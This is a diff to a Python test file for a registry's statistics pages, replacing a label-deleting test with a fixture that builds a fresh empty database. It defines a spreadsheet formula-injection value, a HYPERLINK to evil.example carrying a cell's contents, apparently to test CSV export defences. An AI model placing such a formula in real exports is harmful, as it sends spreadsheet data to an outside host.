@@ -6,18 +6,21 @@ from __future__ import annotations
 import csv
 import io
 import re
+import os
 import xml.etree.ElementTree as ET
 from collections import Counter, defaultdict
 from decimal import Decimal
 
 import pytest
 from markupsafe import Markup
-from sqlalchemy import delete, select
+from sqlalchemy import select
 
+from registry import migrate
 from registry.applications.models import ActivityLine
 from registry.disclosure import charts, statistics
 from registry.labels.models import Label, LabelStatus
 from registry.schemes.models import Scheme, SchemeVersion
+from tests.conftest import _postgres_database, english, make_test_app
 
 SVG_NS = "{http://www.w3.org/2000/svg}"
 HOSTILE = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
@@ -235,9 +238,25 @@ def test_the_page_reads_in_chinese(app, labels):
         assert label.holder.region[0] in page and label.grade()["name_zh"] in page
 
 
-def test_an_empty_registry_says_so_without_charts(client, session):
-    session.execute(delete(Label))
-    session.flush()
+@pytest.fixture
+def empty_client(tmp_path, upload_dir):
+    """A client of a registry with nothing in it (a label's history is append-only, so labels cannot be deleted)."""
+    base = os.environ.get("REGISTRY_TEST_DATABASE_URL")
+    if base:
+        databases = _postgres_database(base)
+        url = next(databases)
+    else:
+        databases, url = None, "sqlite:///" + str(tmp_path / "empty.sqlite3")
+    try:
+        migrate.upgrade(url)
+        yield english(make_test_app(url, upload_dir).test_client())
+    finally:
+        if databases is not None:
+            databases.close()
+
+
+def test_an_empty_registry_says_so_without_charts(empty_client):
+    client = empty_client
     page = client.get("/statistics").get_data(as_text=True)
     assert "No labels have been issued yet." in page
     assert "<svg" not in page and "<table" not in page
